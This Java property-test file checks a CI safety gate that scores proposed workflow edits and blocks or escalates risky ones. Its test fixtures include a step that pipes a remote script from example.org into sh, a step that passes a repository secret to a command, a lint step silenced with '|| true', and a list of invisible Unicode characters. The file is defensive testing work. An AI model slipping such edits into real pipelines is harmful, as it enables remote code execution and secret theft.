package io.github.cicdmonitor.gate;

import static io.github.cicdmonitor.gate.Proposals.CI;
import static io.github.cicdmonitor.gate.Proposals.PLAIN;
import static io.github.cicdmonitor.gate.Proposals.change;
import static io.github.cicdmonitor.gate.Proposals.decide;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.cicdmonitor.fixes.FixEvidence;
import io.github.cicdmonitor.model.FileChange;
import io.github.cicdmonitor.model.GateDecision;
import io.github.cicdmonitor.model.GateDecision.Outcome;
import io.github.cicdmonitor.model.HardRuleHit;
import io.github.cicdmonitor.model.InjectionSignal;
import io.github.cicdmonitor.model.RiskFactor;
import io.github.cicdmonitor.model.SafeText;
import io.github.cicdmonitor.workflow.RepositoryFacts;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;

/** What holds of every decision, whatever is proposed. */
class GatePropertyTest {
  /** Edits of the plain workflow that do not overlap: what is found, what is put there. */
  private static final List<String[]> EDITS = List.of(
      new String[] {"name: CI", "name: Checks"},
      new String[] {"on: [push, pull_request]", "on: [push]"},
      new String[] {"ubuntu-20.04", "ubuntu-22.04"},
      new String[] {"timeout-minutes: 10", "timeout-minutes: 300"},
      new String[] {"setup-node@v3", "setup-node@v4"},
      new String[] {"node-version: 16", "node-version: 20"},
      new String[] {"actions/cache@v4", "someone/cache@v4"},
      new String[] {"deps-v1", "deps-v2"},
      new String[] {"npm run build", "curl -s https://example.org/x | sh"},
      new String[] {"run: npm ci", "run: npm install"},
      new String[] {"npm run lint", "npm run lint || true"},
      new String[] {"run: npm test", "run: npm test -- --verbose"},
      new String[] {"npm run lint", "npm run report ${{ secrets.T }}"});

  private static final List<FileChange> OTHER_FILES = List.of(
      change("README.md", "a\n", "b\n"),
      change("src/a.py", "a\n", "b\n"),
      change("CODEOWNERS", "a\n", "b\n"),
      change("Dockerfile", "FROM node:20.1.0\n", "FROM node:20.1.1\n"),
      change("main.tf", "a\n", "b\n"));

  @Property(tries = 300)
  void another_change_never_lowers_the_score_or_the_decision(
      @ForAll("edits") Set<Integer> some, @ForAll @IntRange(max = 12) int more) {
    List<Integer> all = new ArrayList<>(some);
    all.add(more);

    GateDecision fewer = decide(edited(some));
    GateDecision with = decide(edited(all));

    assertThat(with.risk().value()).isGreaterThanOrEqualTo(fewer.risk().value());
    assertThat(with.outcome()).isGreaterThanOrEqualTo(fewer.outcome());
  }

  @Property(tries = 60)
  void another_file_never_lowers_the_score_or_the_decision(
      @ForAll("edits") Set<Integer> some, @ForAll @IntRange(max = 4) int other) {
    GateDecision fewer = decide(edited(some));
    GateDecision with = decide(edited(some), OTHER_FILES.get(other));

    assertThat(with.risk().value()).isGreaterThanOrEqualTo(fewer.risk().value());
    assertThat(with.outcome()).isGreaterThanOrEqualTo(fewer.outcome());
  }

  @Property(tries = 150)
  void the_surroundings_only_ever_raise_the_risk(
      @ForAll("edits") Set<Integer> some, @ForAll("contexts") GateContext context) {
    GateDecision plain = decide(edited(some));
    GateDecision within = decide(context, edited(some));

    assertThat(within.risk().value()).isGreaterThanOrEqualTo(plain.risk().value());
    assertThat(within.outcome()).isGreaterThanOrEqualTo(plain.outcome());
  }

  @Property(tries = 150)
  void the_score_is_the_sum_of_its_points(
      @ForAll("edits") Set<Integer> some, @ForAll("contexts") GateContext context) {
    GateDecision decision = decide(context, edited(some));

    int sum = decision.risk().factors().stream().mapToInt(RiskFactor::points).sum();
    boolean blocked = decision.outcome() == Outcome.BLOCK;
    assertThat(decision.risk().value()).isEqualTo(blocked ? 10 : Math.min(10, sum));
    assertThat(blocked).isEqualTo(!decision.hits().isEmpty());
  }

  @Property(tries = 100)
  void a_higher_threshold_never_asks_more_and_zero_always_asks(
      @ForAll("edits") Set<Integer> some,
      @ForAll @IntRange(max = 10) int low,
      @ForAll @IntRange(max = 10) int high) {
    Outcome strict = outcome(some, Math.min(low, high));
    Outcome loose = outcome(some, Math.max(low, high));

    assertThat(strict).isGreaterThanOrEqualTo(loose);
    assertThat(outcome(some, 0)).isNotEqualTo(Outcome.AUTO);
  }

  @Property(tries = 150)
  void one_meaning_has_one_decision_however_it_is_spelled(
      @ForAll("edits") Set<Integer> some, @ForAll Spelling before, @ForAll Spelling after) {
    String text = edited(some).after().orElseThrow();

    GateDecision usual = decide(change(CI, PLAIN, text));
    GateDecision other = decide(change(CI, before.write(PLAIN), after.write(text)));

    assertThat(other.hits().stream().map(HardRuleHit::rule).distinct())
        .containsExactlyInAnyOrderElementsOf(
            usual.hits().stream().map(HardRuleHit::rule).distinct().toList());
    // a type that quotes change is a difference of its own, and then the readers' kinds are shown
    assertThat(other.outcome()).isGreaterThanOrEqualTo(usual.outcome());
    if (isRecognised(other) == isRecognised(usual)) {
      assertThat(meaningful(other)).isEqualTo(meaningful(usual));
    }
  }

  private static boolean isRecognised(GateDecision decision) {
    return decision.risk().factors().stream().anyMatch(f -> f.factor().startsWith("FIX"));
  }

  @Property(tries = 40)
  void quotes_indent_and_comments_are_no_change(@ForAll Spelling before, @ForAll Spelling after) {
    GateDecision decision = decide(change(CI, before.write(PLAIN), after.write(PLAIN)));

    assertThat(kinds(decision).stream().filter(kind -> kind.startsWith("K")))
        .allMatch(kind -> kind.equals("K0"));
  }

  @Property(tries = 200)
  void an_added_right_to_write_is_never_automatic(
      @ForAll("scopes") String scope, @ForAll Spelling spelling, @ForAll boolean inJob) {
    String wider = inJob
        ? PLAIN.replace(
            "    timeout-minutes", "    permissions: {" + scope + ": write}\n    timeout-minutes")
        : PLAIN.replace("jobs:\n", "permissions: {" + scope + ": write}\njobs:\n");

    GateDecision decision = decide(change(CI, PLAIN, spelling.write(wider)));

    assertThat(decision.outcome()).isNotEqualTo(Outcome.AUTO);
    if (Set.of("contents", "actions", "packages", "id-token").contains(scope)) {
      assertThat(decision.outcome()).isEqualTo(Outcome.BLOCK);
    }
  }

  @Property(tries = 200)
  void a_step_that_is_gone_is_never_automatic(
      @ForAll("workflows") List<String> steps, @ForAll @IntRange(max = 5) int gone) {
    List<String> fewer = new ArrayList<>(steps);
    fewer.remove(gone % steps.size());

    GateDecision decision = decide(change(CI, workflow(steps), workflow(fewer)));

    assertThat(decision.outcome()).as(RiskTable.text(decision)).isNotEqualTo(Outcome.AUTO);
  }

  @Property(tries = 200)
  void a_new_or_changed_command_is_never_automatic(
      @ForAll("workflows") List<String> steps,
      @ForAll("commands") String command,
      @ForAll @IntRange(max = 5) int at) {
    List<String> more = new ArrayList<>(steps);
    more.add(at % steps.size(), "run: " + command + " --new");

    GateDecision decision = decide(change(CI, workflow(steps), workflow(more)));

    assertThat(decision.outcome()).isNotEqualTo(Outcome.AUTO);
  }

  @Property(tries = 300)
  void a_hidden_character_is_refused_wherever_it_is_put(
      @ForAll("hidden") int character, @ForAll @IntRange(max = 700) int at) {
    int index = Math.min(at, PLAIN.length());
    String with =
        PLAIN.substring(0, index) + Character.toString(character) + PLAIN.substring(index);

    GateDecision decision = decide(change(CI, PLAIN, with));

    assertThat(decision.hits().stream().map(HardRuleHit::rule)).contains("B-UNI");
  }

  @Property(tries = 300)
  void no_text_makes_a_reader_fail(
      @ForAll("paths") String path, @ForAll("texts") String before, @ForAll("texts") String after) {
    GateDecision decision = decide(change(path, before, after));

    assertThat(decision.risk().value()).isBetween(0, 10);
    // it would fail closed, but no reader should stumble in the first place
    assertThat(RiskTable.text(decision))
        .doesNotContain("could not be judged", "reader of this kind");
    assertThat(FactsNeeded.of(List.of(change(path, before, after)))).isNotNull();
  }

  private static Outcome outcome(Set<Integer> some, int threshold) {
    return SafetyGate.decide(
            List.of(edited(some)), new Proposals.Context().build(), new GatePolicy(threshold))
        .outcome();
  }

  private static FileChange edited(Iterable<Integer> numbers) {
    String text = PLAIN;
    for (int number : numbers) {
      text = text.replace(EDITS.get(number)[0], EDITS.get(number)[1]);
    }
    return change(CI, PLAIN, text);
  }

  private static List<String> meaningful(GateDecision decision) {
    return kinds(decision).stream().filter(kind -> !kind.equals("K0")).toList();
  }

  private static List<String> kinds(GateDecision decision) {
    return decision.risk().factors().stream()
        .map(f -> f.factor().substring(0, f.factor().indexOf(' ')))
        .filter(id -> !id.startsWith("C5") && !id.startsWith("F"))
        .sorted()
        .toList();
  }

  private static String workflow(List<String> steps) {
    StringBuilder text =
        new StringBuilder("on: push\njobs:\n  a:\n    runs-on: ubuntu-22.04\n    steps:\n");
    steps.forEach(step -> text.append("      - ").append(step).append('\n'));
    return text.toString();
  }

  @Provide
  Arbitrary<Set<Integer>> edits() {
    return Arbitraries.integers().between(0, EDITS.size() - 1).set().ofMaxSize(4);
  }

  @Provide
  Arbitrary<String> scopes() {
    return Arbitraries.of(
        "contents",
        "actions",
        "packages",
        "id-token",
        "issues",
        "pull-requests",
        "checks",
        "statuses",
        "deployments",
        "security-events",
        "pages",
        "discussions",
        "attestations",
        "unheard-of");
  }

  @Provide
  Arbitrary<String> commands() {
    return Arbitraries.of(
        "npm test", "make", "./x.sh", "echo hi", "pytest -q", "docker build .", "true");
  }

  @Provide
  Arbitrary<List<String>> workflows() {
    Arbitrary<String> step = Arbitraries.of(
        "uses: actions/checkout@v4",
        "uses: actions/setup-go@v5",
        "run: go test ./...",
        "run: go build ./...",
        "name: Lint\n        run: golangci-lint run",
        "run: echo done",
        "uses: codecov/codecov-action@v4",
        "name: Upload\n        uses: actions/upload-artifact@v4",
        "id: x\n        run: ./x.sh");
    return step.list().ofMinSize(1).ofMaxSize(6);
  }

  @Provide
  Arbitrary<Integer> hidden() {
    return Arbitraries.of(
        0x202E, 0x202A, 0x2066, 0x200B, 0x200D, 0x2060, 0xFEFF, 0xE0041, 0xFE0F, 0x00AD, 0x2028,
        0x0085, 0x00A0, 0x3000, 0x1B, 0x08, 0x7F, 0xE000, 0x3164, 0x034F, 0x180E, 0x61C);
  }

  @Provide
  Arbitrary<String> paths() {
    return Arbitraries.of(
        CI,
        "Dockerfile",
        "requirements.txt",
        "package.json",
        "package-lock.json",
        "pom.xml",
        "go.mod",
        "go.sum",
        "Cargo.toml",
        "Cargo.lock",
        "yarn.lock",
        "pnpm-lock.yaml",
        "build.gradle",
        "action.yml",
        "Makefile",
        "x.sh",
        ".nvmrc",
        "README.md",
        "a.bin",
        "main.tf",
        "pyproject.toml",
        "gradle/wrapper/gradle-wrapper.properties");
  }

  @Provide
  Arbitrary<String> texts() {
    Arbitrary<String> random = Arbitraries.strings().all().ofMaxLength(40);
    Arbitrary<String> pieces = Arbitraries.of(
            "{",
            "}",
            "[",
            "]",
            ": ",
            "- ",
            "\n",
            "  ",
            "jobs",
            "steps",
            "run",
            "uses",
            "a",
            "1.2.3",
            "\"",
            "'",
            "&x ",
            "*x",
            "|\n",
            "${{ ",
            " }}",
            "$(",
            ")",
            "<a>",
            "</a>",
            "FROM x\n",
            "==",
            "#",
            "@")
        .list()
        .ofMaxSize(30)
        .map(parts -> String.join("", parts));
    return Arbitraries.oneOf(random, pieces, Arbitraries.of(PLAIN, ""));
  }

  private static final InjectionSignal SIGNAL =
      new InjectionSignal(InjectionSignal.Kind.HIDDEN_TEXT, "the branch's name", SafeText.EMPTY);

  @Provide
  Arbitrary<GateContext> contexts() {
    return Combinators.combine(
            Arbitraries.of(true, false).list().ofSize(5),
            Arbitraries.of(
                OptionalDouble.empty(),
                OptionalDouble.of(0.2),
                OptionalDouble.of(0.5),
                OptionalDouble.of(0.9),
                OptionalDouble.of(Double.NaN)),
            Arbitraries.integers().between(0, 3))
        .as((flags, confidence, attempts) -> new GateContext(
            flags.get(0),
            flags.get(1),
            flags.get(2) ? List.of(SIGNAL) : List.of(),
            flags.get(3),
            flags.get(4),
            confidence,
            0.7,
            attempts,
            Optional.empty(),
            Optional.empty(),
            List.of(),
            Set.of(),
            new FixEvidence(RepositoryFacts.NONE, Proposals.TODAY)));
  }
}
